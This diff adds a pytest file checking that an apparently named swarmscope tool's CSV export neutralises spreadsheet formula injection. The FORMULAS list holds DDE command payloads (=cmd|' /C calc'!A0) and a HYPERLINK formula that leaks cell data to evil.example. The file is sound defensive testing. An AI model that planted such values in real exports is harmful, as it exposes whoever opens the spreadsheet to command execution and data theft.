@@ -1,0 +1,101 @@
+"""A name in a store that is a formula for the spreadsheet in which somebody opens an export."""
+
+import csv
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from tests.fixtures import recorded
+from tests.fixtures.served import serving, swarmscope, write
+
+from swarmscope.line_protocol import Field, line, series
+from swarmscope.runs.export import Format, export
+from swarmscope.store.reader import HttpReader
+
+RUN = "run"
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"report")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\uff1dcmd",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20x",
+)
+HONEST = ("/a", "a=b", "'quoted", "a-b", "1", "|x", " =1", 'ünïcode,"x"', "")
+BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+@pytest.fixture(scope="module")
+def reader(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HttpReader]:
+    """A store with a run whose names are formulas; and one without any."""
+    with serving(tmp_path_factory.mktemp("store")) as url:
+        at = recorded.T0 * 10**9
+        for run, texts in ((RUN, (*FORMULAS, *HONEST)), ("honest", HONEST)):
+            write(url, [line(series("locust_run", {"run": run, "event": "start"}), {"v": 1}, at)])
+            for number, text in enumerate(texts):
+                tags = {"run": run, "number": f"n{number}", **({"name": text} if text else {})}
+                fields: dict[str, Field] = {"message": text, "offset": -3.5, "count": -2}
+                write(url, [line(series("m", tags), fields, at + number)])
+        tags = {"run": RUN, "=tag": "x"}
+        write(url, [line(series("odd", tags), {"=cmd|' /C calc'!A0": 1.0, "-x": "a"}, at)])
+        yield HttpReader(url)
+
+
+def cells(path: Path) -> list[dict[str, str]]:
+    with path.open(newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def test_no_cell_of_a_csv_begins_as_a_formula_but_numbers(
+    reader: HttpReader, tmp_path: Path
+) -> None:
+    written = export(reader, RUN, Format.CSV, tmp_path)
+    assert written.changed
+    for path in written.rows:
+        for row in cells(path):
+            texts = {k: v for k, v in row.items() if k not in ("offset", "count")}
+            assert not [v for v in (*texts, *texts.values()) if v.startswith(BEGINS)], path
+    rows = cells(tmp_path / RUN / "m.csv")
+    assert {row["message"] for row in rows} == {*(f"'{text}" for text in FORMULAS), *HONEST}
+    assert {row["name"] for row in rows} == {row["message"] for row in rows}
+    assert {(row["offset"], row["count"]) for row in rows} == {("-3.5", "-2")}
+
+
+@pytest.mark.parametrize("kind", Format)
+def test_raw_is_exact_and_so_are_the_formats_that_no_spreadsheet_opens(
+    reader: HttpReader, tmp_path: Path, kind: Format
+) -> None:
+    duckdb = pytest.importorskip("duckdb")
+    written = export(reader, RUN, kind, tmp_path, raw=kind is Format.CSV)
+    assert not written.changed
+    path = tmp_path / RUN / f"m.{kind}"
+    if kind is Format.CSV:
+        found = {row["message"] for row in cells(path)}
+    else:
+        found = {row[0] for row in duckdb.execute(f"SELECT message FROM '{path}'").fetchall()}
+    assert found == {*FORMULAS, *HONEST}
+
+
+def test_a_run_without_any_is_the_same_with_and_without_raw(
+    reader: HttpReader, tmp_path: Path
+) -> None:
+    written = export(reader, "honest", Format.CSV, tmp_path / "a")
+    assert not written.changed
+    export(reader, "honest", Format.CSV, tmp_path / "b", raw=True)
+    for path in written.rows:
+        assert path.read_bytes() == (tmp_path / "b/honest" / path.name).read_bytes()
+
+
+def test_the_command_says_what_it_did_and_how_to_do_without(
+    reader: HttpReader, tmp_path: Path
+) -> None:
+    done = swarmscope("export", RUN, "--url", reader.url, cwd=tmp_path)
+    assert done.returncode == 0
+    assert "--raw" in done.stderr
+    done = swarmscope("export", RUN, "--url", reader.url, "--raw", cwd=tmp_path)
+    assert (done.returncode, done.stderr) == (0, "")
+    done = swarmscope("export", "honest", "--url", reader.url, cwd=tmp_path)
+    assert (done.returncode, done.stderr) == (0, "")
